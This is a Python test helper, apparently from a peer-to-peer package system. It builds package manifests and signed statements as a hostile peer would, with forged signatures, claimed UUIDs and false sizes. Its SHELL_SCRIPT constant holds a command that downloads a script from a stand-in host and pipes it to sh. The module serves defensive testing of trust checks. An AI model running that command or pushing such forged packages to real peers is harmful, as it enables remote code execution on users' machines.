"""Package manifests as a peer sends them, with a statement signed by any key the test
holds: genuine ones for a hostile peer's own packages, forged ones for everything else."""

from __future__ import annotations

import hashlib
import time

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from ods.core.stages import Stage
from ods.mesh.protocol.wire import ChunkDigests, PackageManifest
from ods.packages.digest import CHUNK_SIZE
from ods.trust.statements import PackageStatement, chunk_list_digest, new_bound_uuid, sign

SHELL_SCRIPT = b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n"


def chunk_digests(data: bytes) -> list[ChunkDigests]:
    return [
        ChunkDigests(
            index=index,
            sha1=hashlib.sha1(data[start : start + CHUNK_SIZE]).hexdigest(),  # noqa: S324
            sha256=hashlib.sha256(data[start : start + CHUNK_SIZE]).hexdigest(),
        )
        for index, start in enumerate(range(0, max(len(data), 1), CHUNK_SIZE))
    ]


def manifest_of(
    data: bytes,
    *,
    origin: str,
    key: Ed25519PrivateKey,
    filename: str = "Tool.pkg",
    uuid: str | None = None,
    created_ts: int | None = None,
    file_size: int | None = None,
) -> PackageManifest:
    """The manifest of `data` at stage Prod, with a statement that says `origin` made it,
    signed by `key` (which may or may not be origin's). `file_size` claims another size
    than the data's, in the manifest and its statement alike. Without `uuid`, the package
    gets a uuid of `origin`'s own; with one, the statement claims it whether or not it is
    origin's to claim (it is built as a hostile peer would, unchecked)."""
    chunks = chunk_digests(data)
    nonce = None
    if uuid is None:
        uuid, nonce = new_bound_uuid(origin)
    statement = PackageStatement.model_construct(
        origin=origin,
        uuid=uuid,
        uuid_nonce=nonce,
        filename=filename,
        file_size=len(data) if file_size is None else file_size,
        sha256=hashlib.sha256(data).hexdigest(),
        sha1=hashlib.sha1(data).hexdigest(),  # noqa: S324
        chunks_sha256=chunk_list_digest(c.sha256 for c in chunks),
        chunks_sha1=chunk_list_digest(c.sha1 for c in chunks),
        stage=Stage.PROD,
        created_ts=int(time.time()) if created_ts is None else created_ts,
    )
    return PackageManifest(
        uuid=statement.uuid,
        filename=filename,
        file_size=statement.file_size,
        sha1=statement.sha1,
        sha256=statement.sha256,
        stage=Stage.PROD,
        created_ts=statement.created_ts,
        origin_iss=origin,
        statement=sign(key, statement),
        chunks=chunks,
    )
